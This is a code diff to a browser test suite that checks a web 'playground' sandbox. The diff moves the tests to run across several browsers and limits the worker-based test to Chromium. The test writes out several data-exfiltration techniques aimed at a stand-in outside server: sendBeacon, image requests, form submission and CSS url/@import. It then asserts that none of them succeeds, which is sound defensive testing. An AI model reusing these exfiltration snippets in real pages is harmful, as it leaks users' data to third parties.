@@ -1,14 +1,11 @@
 import { deflateRawSync } from 'node:zlib';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, expect, it } from 'vitest';
 import { escapeText } from '../../src/xml/characters.js';
 import { manifest } from '../cli/in-memory.js';
-import { inBrowser } from '../support/in-browser.js';
+import { describeInBrowsers } from '../support/in-browser.js';
 import { storageBytes } from '../support/storage.js';
-import { chromium, noteMissing } from '../support/tools.js';
 import { Playground } from './playground.js';
 import { serveElsewhere, type TestServer } from './site-server.js';
-
-noteMissing({ chromium });
 
 const storage = storageBytes.toString();
 
@@ -26,12 +23,12 @@ function attribute(text: string): string {
   return escapeText(text).replaceAll('"', '&quot;');
 }
 
-describe.skipIf(chromium === undefined)('the playground and attackers', inBrowser, () => {
+describeInBrowsers('the playground and attackers', (browser) => {
   let playground: Playground;
   let elsewhere: TestServer;
 
   beforeAll(async () => {
-    playground = await Playground.start();
+    playground = await Playground.start(browser);
     elsewhere = await serveElsewhere();
   });
 
@@ -73,36 +70,40 @@ describe.skipIf(chromium === undefined)('the playground and attackers', inBrowse
     return open;
   };
 
-  it('has no way out: not from the page, the workers or the frame', async () => {
-    const { page } = await playground.open();
-    await page.click('#tab-html');
-    const frame = await (await page.waitForSelector('#panel-html iframe'))?.contentFrame();
-    await frame?.waitForSelector('#query');
-    const workers = page.workers();
-    expect(workers.length).toBe(2);
-    for (const target of [elsewhere.address, playground.server.address]) {
-      expect(await page.evaluate(tryToSend, target)).toEqual([]);
-      expect(await frame?.evaluate(tryToSend, target)).toEqual([]);
-      for (const worker of workers) expect(await worker.evaluate(tryToSend, target)).toEqual([]);
-    }
-    const beacon = (address: string) => {
-      navigator.sendBeacon(address, 'secret');
-      const picture = new Image();
-      picture.src = `${address}?secret`;
-      const form = document.createElement('form');
-      form.action = address;
-      document.body.append(form);
-      form.submit();
-      const style = document.createElement('style');
-      style.textContent = `body { background: url("${address}?secret"); } @import "${address}style.css";`;
-      document.head.append(style);
-    };
-    await page.evaluate(beacon, elsewhere.address);
-    await frame?.evaluate(beacon, elsewhere.address);
-    await new Promise((resolve) => setTimeout(resolve, 1000));
-    expect(elsewhere.asked).toEqual([]);
-    await page.close();
-  });
+  // Only Chromium lets a test run code in the workers of a page.
+  it.skipIf(browser !== 'Chromium')(
+    'has no way out: not from the page, the workers or the frame',
+    async () => {
+      const { page } = await playground.open();
+      await page.click('#tab-html');
+      const frame = await (await page.waitForSelector('#panel-html iframe'))?.contentFrame();
+      await frame?.waitForSelector('#query');
+      const workers = page.workers();
+      expect(workers.length).toBe(2);
+      for (const target of [elsewhere.address, playground.server.address]) {
+        expect(await page.evaluate(tryToSend, target)).toEqual([]);
+        expect(await frame?.evaluate(tryToSend, target)).toEqual([]);
+        for (const worker of workers) expect(await worker.evaluate(tryToSend, target)).toEqual([]);
+      }
+      const beacon = (address: string) => {
+        navigator.sendBeacon(address, 'secret');
+        const picture = new Image();
+        picture.src = `${address}?secret`;
+        const form = document.createElement('form');
+        form.action = address;
+        document.body.append(form);
+        form.submit();
+        const style = document.createElement('style');
+        style.textContent = `body { background: url("${address}?secret"); } @import "${address}style.css";`;
+        document.head.append(style);
+      };
+      await page.evaluate(beacon, elsewhere.address);
+      await frame?.evaluate(beacon, elsewhere.address);
+      await new Promise((resolve) => setTimeout(resolve, 1000));
+      expect(elsewhere.asked).toEqual([]);
+      await page.close();
+    },
+  );
 
   it('asks only for its own files, in all that it does', async () => {
     const before = playground.server.asked.length;
